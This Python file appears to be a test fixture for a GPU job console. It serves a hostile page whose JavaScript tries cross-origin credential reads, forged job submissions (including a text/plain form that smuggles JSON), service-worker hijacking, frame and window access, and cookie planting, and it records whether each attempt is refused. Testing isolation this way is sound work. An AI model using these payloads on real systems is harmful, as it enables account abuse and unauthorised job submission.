"""A job whose web page attacks the console of whoever opens it: CONSOLE is its address, BAILIFF_PORT where it listens."""

import json
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

CONSOLE = os.environ.get("CONSOLE", "")
SCRIPT = """
const outcome = {};
const attempt = async (name, act) => {
  try { outcome[name] = String(await act()); } catch (error) { outcome[name] = 'refused: ' + error.name; }
};
const job = JSON.stringify({ kind: 'submit', yaml: 'name: pwned\\ngpus: 1\\ncommand: [true]' });
const credentials = 'include';
const post = { method: 'POST', credentials, body: job };
const json = { 'content-type': 'application/json' };
const requests = CONSOLE + '/api/pools/pool-a/requests';
const form = (method, action, target) => {
  const made = Object.assign(document.createElement('form'), { method, action, target, enctype: 'text/plain' });
  made.append(Object.assign(document.createElement('input'), { name: job.slice(0, -1) + ',"x":"', value: '"}' }));
  document.body.append(made);
  made.submit();
};
const frame = (src) => new Promise((loaded) => {
  const made = Object.assign(document.createElement('iframe'), { src });
  made.onload = () => loaded(made.contentDocument?.title ?? 'no document');
  document.body.append(made);
});
(async () => {
  await attempt('cookies', () => document.cookie);
  await attempt('storage', () => JSON.stringify(Object.keys(localStorage)));
  await attempt('databases', async () => (await indexedDB.databases()).length);
  await attempt('opener', () => window.opener);
  await attempt('top', () => window.top === window);
  await attempt('read', async () => (await fetch(CONSOLE + '/api/me', { credentials })).text());
  await attempt('read without a preflight', async () =>
    (await fetch(CONSOLE + '/api/me', { credentials, mode: 'no-cors' })).text());
  await attempt('write', async () => (await fetch(requests, { ...post, headers: json })).text());
  await attempt('write without a preflight', async () =>
    (await fetch(requests, { ...post, mode: 'no-cors' })).text());
  await attempt('websocket', () => new Promise((done) => {
    const made = new WebSocket(CONSOLE.replace('http', 'ws') + '/api/live');
    made.onopen = () => done('open');
    made.onerror = () => done('refused');
  }));
  await attempt('worker of the console', () =>
    navigator.serviceWorker.register(CONSOLE + '/worker.js', { scope: CONSOLE + '/' }));
  await attempt('own worker', async () => {
    const made = await navigator.serviceWorker.register('/worker.js', { scope: '/' });
    return new URL(made.scope).origin === origin;
  });
  await attempt('frame', () => frame(CONSOLE + '/'));
  await attempt('window', async () => {
    const made = window.open(CONSOLE + '/', 'console');
    while (!made.closed && made.location.href === 'about:blank') await new Promise((later) => setTimeout(later, 20));
    return made.closed ? 'refused: closed' : made.document.title;
  });
  form('POST', requests, 'by-form');
  document.cookie = 'bailiff=stolen; path=/';
  document.title = 'finished';
  window.outcome = outcome;
})();
"""
WORKER = "self.addEventListener('fetch', (event) => event.respondWith(new Response('pwned')));"


class Page(BaseHTTPRequestHandler):
    """The page, its service worker, and cookies for every host that a browser might take them for."""

    def do_GET(self) -> None:
        """Serve."""
        worker = self.path == "/worker.js"
        text = (
            WORKER if worker else f"<title>attacks</title><body><script>const CONSOLE = {json.dumps(CONSOLE)};{SCRIPT}</script>"
        )
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if worker else "text/html")
        self.send_header("Service-Worker-Allowed", "/")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Security-Policy", "frame-ancestors *")
        for domain in ("", "; Domain=localhost", "; Domain=127.0.0.1"):
            self.send_header("Set-Cookie", f"bailiff-{CONSOLE.rpartition(':')[2]}=stolen; Path=/{domain}")
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the base class's name
        """Nothing."""


if __name__ == "__main__":
    ThreadingHTTPServer(("127.0.0.1", int(os.environ["BAILIFF_PORT"])), Page).serve_forever()
